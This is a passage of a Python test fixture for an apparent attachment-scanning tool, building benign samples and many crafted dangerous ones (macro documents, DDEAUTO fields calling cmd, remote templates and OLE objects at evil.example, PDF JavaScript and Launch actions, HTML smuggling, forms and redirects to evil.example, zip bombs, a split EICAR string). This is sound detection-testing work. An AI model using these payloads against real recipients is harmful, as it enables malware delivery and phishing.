        "log.txt.xz": (xz(b"log\n" * 100), "application/x-xz"),
        "picture.png": (png(), "image/png"),
        "photo.jpg": (JPEG, "image/jpeg"),
        "dot.gif": (GIF, "image/gif"),
        "dot.webp": (WEBP, "image/webp"),
        "dot.bmp": (BMP, "image/bmp"),
        "film.mp4": (MP4, "video/mp4"),
        "drawing.svg": (SVG, "image/svg+xml"),
        "newsletter.html": (NEWSLETTER, "text/html"),
        "meeting.ics": (ICS % ICS_LINK, "text/calendar"),
        "table.csv": (CSV, "text/csv"),
        "note.txt": ("ただのテキストです。\n".encode("iso-2022-jp"), "text/plain"),
        "utf16.txt": ("plain text\r\n".encode("utf-16"), "text/plain"),
        "forwarded.eml": (EML, "message/rfc822"),
        "forwarded-pdf.eml": (eml_with("report.pdf", pdf()), "message/rfc822"),
        "winmail.dat": (tnef("report.pdf", pdf(), "report.pdf"), "application/vnd.ms-tnef"),
        "www.example.com.pdf": (pdf(), "application/pdf"),
        "empty.txt": (b"", "application/octet-stream"),
    }


@functools.cache
def dangerous() -> dict[str, tuple[bytes, tuple[str, ...]]]:
    """What it is: (content, codes), to be recognised without name and declared type."""
    return {
        "docm": (docm(), ("macro",)),
        "docx with renamed macros": (docx_with_renamed_macros(), ("macro",)),
        "docx with DDE split over runs": (docx_dde(), ("dde",)),
        "docx with DDE by QUOTE": (docx_dde("QUOTE 68 68 69 65 85 84 79 32 99"), ("dde",)),
        "docx with DDE in UTF-16": (docx_dde_utf16(), ("dde",)),
        "docx with simple DDE field": (
            ooxml("docx", main=word_main('<w:fldSimple w:instr="D&#68;EAUTO calc"/>')),
            ("dde",),
        ),
        "docx with remote template": (docx_remote_template(), ("remote-template",)),
        "docx with template on a share": (docx_remote_template("file:///\\\\evil\\t.dotm"), ("remote-template",)),
        "docx with object": (docx_object(), ("embedded-object",)),
        "docx with remote object": (
            ooxml("docx", relationships={"word/document.xml": [("oleObject", "mhtml:http://evil.example/!x", True)]}),
            ("embedded-object", "remote-template"),
        ),
        "docx with document type": (docx_doctype(), ("document-unreadable",)),
        "xlsm with XLM sheet": (xlsm_xlm(), ("macro", "xlm")),
        "xlsx with DDE": (xlsx_dde(), ("dde",)),
        "xlsb with DDE": (xlsb_dde(), ("dde", "document-unreadable")),
        "pptx that starts a program": (pptx_program(), ("script",)),
        "odt with macro": (odt(macro=True), ("macro",)),
        "odt encrypted": (odt(encrypted=True), ("encrypted-document",)),
        "Word XML with macro": (word_xml(macro=True), ("macro",)),
        "doc with macro": (doc_macro(), ("macro",)),
        "doc encrypted": (doc(flags=0x0100), ("encrypted-document",)),
        "doc with DDE": (doc(text=b"a \x13 DDEAUTO c:\\cmd \x15"), ("dde",)),
        "doc with wide DDE": (doc(text="a \x13 ddeauto c:\\cmd \x15".encode("utf-16-le"), width=2), ("dde",)),
        "doc with remote template": (doc_template(), ("remote-template",)),
        "doc with object": (
            ole({**word_streams(), "ObjectPool/_1/\x01Ole10Native": b"x"}, mini=True),
            ("embedded-object",),
        ),
        "xls with XLM": (xls_xlm(), ("xlm",)),
        "xls with VBA": (xls((0xD3, b"")), ("macro",)),
        "xls encrypted": (xls((0x2F, bytes(6))), ("encrypted-document",)),
        "xls with DDE": (xls_dde(), ("dde",)),
        "BIFF 4 macro sheet": (BIFF_4_MACRO, ("xlm",)),
        "BIFF 4 sheet": (BIFF_4_SHEET, ("document-unreadable",)),
        "Word 2": (b"\xdb\xa5-\0" + bytes(99), ("document-unreadable",)),
        "ppt with object": (ppt(b"\x0f\0\xcc\x0f\x10\0\0\0" + bytes(16)), ("embedded-object",)),
        "ppt that starts a program": (ppt(b"\0\0\xf3\x0f\x10\0\0\0" + bytes(8) + b"\x02" + bytes(7)), ("script",)),
        "Office encrypted": (encrypted_office(), ("encrypted-document",)),
        "MSI": (msi(), ("installer",)),
        "msg with program": (msg("a.exe", EXE), ("mail-executable",)),
        "truncated compound file": (doc()[:2000], ("document-unreadable",)),
        "RTF with object": (rtf(RTF_OBJECT), ("embedded-object",)),
        "RTF with DDE": (rtf(RTF_DDE), ("dde",)),
        "RTF with template": (rtf(RTF_TEMPLATE), ("remote-template",)),
        "RTF behind blanks": (b"\r\n " + rtf(RTF_OBJECT), ("embedded-object",)),
        "PDF with script": (pdf(b"/OpenAction << /S /JavaScript /JS (x) >>"), ("pdf-active",)),
        "PDF with spelt script": (pdf(b"/OpenAction << /S /#4aava#53cript /JS (x) >>"), ("pdf-active",)),
        "PDF that launches": (pdf(b"/OpenAction << /S /Launch /F (cmd) >>"), ("pdf-active",)),
        "PDF with file": (pdf(b"/AF [<< /F (a) /EF << /F 3 0 R >> >>]"), ("pdf-active",)),
        "PDF with script in object stream": (pdf_object_stream(b"1 0 << /S /JavaScript /JS (x) >>"), ("pdf-active",)),
        "PDF with odd object stream": (pdf_object_stream(b"1 0", b"[/ASCIIHexDecode /FlateDecode]"), ("pdf-active",)),
        "PDF encrypted": (pdf(objects=b"8 0 obj\n<</Encrypt 7 0 R>>\nendobj\n"), ("encrypted-document",)),
        "PDF with leading junk and script": (pdf(b"/S/JavaScript", junk=b"x" * 1000), ("pdf-active",)),
        "HTML smuggling": (SMUGGLING, ("html-active",)),
        "HTML in UTF-16": (SMUGGLING.decode().encode("utf-16"), ("html-active",)),
        "HTML with ISO-2022-JP escapes": (b"<html><scr\x1b(Bipt>alert(1)</script>", ("html-active",)),
        "HTML with form": (b"<html><body><form action='https://evil.example'></form>", ("html-active",)),
        "HTML with handler": (b"<p><img src=x onerror=alert(1)>", ("html-active",)),
        "HTML with refresh": (b"<meta http-equiv='refresh' content='0;url=https://evil.example'>", ("html-active",)),
        "HTML with entities": (b"<html><a href='&#106;avascript:alert(1)'>x</a>", ("html-active",)),
        "MHTML": (MHT, ("html-active",)),
        "SVG with script": (SVG_SCRIPT, ("svg-active",)),
        "SVG with handler": (b"<svg onload=alert(1)>", ("svg-active",)),
        "ics with file": (ICS % ICS_FILE, ("calendar-attachment",)),
        "eml with program": (eml_with("a.exe", EXE), ("mail-executable",)),
        "winmail.dat with program": (tnef("report.pdf", EXE), ("tnef-executable",)),
        "winmail.dat with name of program": (tnef("a.txt", b"x", "a.exe"), ("tnef-executable",)),
        "winmail.dat truncated": (tnef("a.pdf", pdf())[:-20], ("tnef-unreadable",)),
        "PowerShell": (POWERSHELL, ("script",)),
        "VBScript": (VBSCRIPT, ("script",)),
        "JScript": (JSCRIPT, ("script",)),
        "WSF": (WSF, ("script",)),
        "HTA": (HTA, ("script",)),
        "batch": (BATCH, ("script",)),
        "shell": (SHELL, ("script",)),
        "Python": (PYTHON, ("script",)),
        "exe": (EXE, ("executable",)),
        "test file for virus scanners": (scanner_test(), ("executable",)),
        "ELF": (ELF, ("executable",)),
        "Mach-O": (MACHO, ("executable",)),
        "Java class": (JAVA, ("executable",)),
        "jar": (zipped({"META-INF/MANIFEST.MF": b"x", "a.txt": b"x"}), ("executable",)),
        "LNK": (LNK, ("shortcut",)),
        "URL": (URL, ("shortcut",)),
        "RDP": (RDP, ("shortcut",)),
        "RDP in UTF-16": (RDP.decode().encode("utf-16"), ("shortcut",)),
        "IQY": (IQY, ("shortcut",)),
        "SLK": (SYLK, ("shortcut",)),
        "SettingContent-ms": (SETTING_CONTENT, ("shortcut",)),
        "OneNote": (ONENOTE, ("onenote",)),
        "CHM": (CHM, ("chm",)),
        "ISO": (ISO, ("disk-image",)),
        "VHD by trailer": (VHD, ("disk-image",)),
        "VHDX": (VHDX, ("disk-image",)),
        "DMG by trailer": (DMG, ("disk-image",)),
        "WIM": (WIM, ("disk-image",)),
        "Access": (ACCESS, ("macro",)),
        "zip with program": (zipped({"a/invoice.pdf.exe": EXE}), ("archive-executable",)),
        "zip with hidden program": (zipped({"a.txt": EXE}), ("archive-executable",)),
        "zip with macro": (zipped({"a.docm": docm()}), ("archive-macro",)),
        "zip in zip with script": (nested_zip(3, ("a.js", b"x")), ("archive-script",)),
        "zip encrypted": (zip_encrypted(), ("encrypted-archive",)),
        "zip encrypted with AES": (zip_aes(), ("encrypted-archive",)),
        "zip encrypted with program": (zip_encrypted("a.exe"), ("archive-executable", "encrypted-archive")),
        "zip in zip encrypted": (zipped({"a.zip": zip_encrypted()}), ("archive-encrypted-archive",)),
        "zip too deep": (nested_zip(5), ("archive-deep",)),
        "zip that disagrees": (zip_disagreeing(), ("archive-unreadable",)),
        "zip with hidden member": (zip_hidden_member(), ("archive-unreadable",)),
        "zip truncated": (zipped({"a.txt": b"text"})[:-30], ("archive-unreadable",)),
        "zip with two of a name": (zip_twice(), ("archive-unreadable",)),
        "zip bomb": (zip_bomb(), ("archive-large",)),
        "zip with many members": (zipped({f"{number}.txt": b"" for number in range(1100)}), ("archive-large",)),
        "gz with program": (gz(EXE), ("archive-executable",)),
        "gz with name of program": (gz(b"x", "a.exe"), ("archive-executable",)),
        "gz truncated": (gz(b"text" * 100)[:-10], ("archive-unreadable",)),
        "tar.gz with script": (gz(tar("a.js", b"x")), ("archive-script",)),
        "tar with long name": (tar("a" * 200 + ".exe", b"x"), ("archive-executable",)),
        "cab": (cab(), ("archive-executable", "archive-unreadable")),
        "7z": (seven_zip(), ("archive-unreadable",)),
        "7z encrypted": (seven_zip(encrypted=True), ("archive-unreadable", "encrypted-archive")),
        "rar 5": (rar_5(), ("archive-script", "archive-unreadable")),
        "rar 5 encrypted": (rar_5(b"a.txt", encrypted=True), ("archive-unreadable", "encrypted-archive")),
        "rar 5 with encrypted names": (rar_5(headers_encrypted=True), ("archive-unreadable", "encrypted-archive")),
        "rar 4": (rar_4(), ("archive-script", "archive-unreadable")),
        "rar 4 encrypted": (rar_4(b"a.txt", encrypted=True), ("archive-unreadable", "encrypted-archive")),
        "zstd": (b"\x28\xb5\x2f\xfd" + bytes(20), ("archive-unreadable",)),
        "picture and zip": (JPEG + zipped({"a.txt": b"x"}), ("polyglot",)),
        "picture and rar": (GIF + rar_5(b"a.txt"), ("archive-unreadable", "polyglot")),
        "PDF and zip": (pdf() + zipped({"a.txt": b"x"}), ("polyglot",)),
        "compound file and zip": (doc() + zipped({"a.txt": b"x"}), ("polyglot",)),
    }


def scanner_test() -> bytes:
    """The test file of EICAR, in pieces: no virus scanner shall find it in the repository."""
    return b"-".join((rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR", b"STANDARD", b"ANTIVIRUS", b"TEST", b"FILE!$H+H*"))


def zip_twice() -> bytes:
    """A ZIP in which one name stands twice."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return zipped([("a.txt", b"safe"), ("a.txt", b"other")])
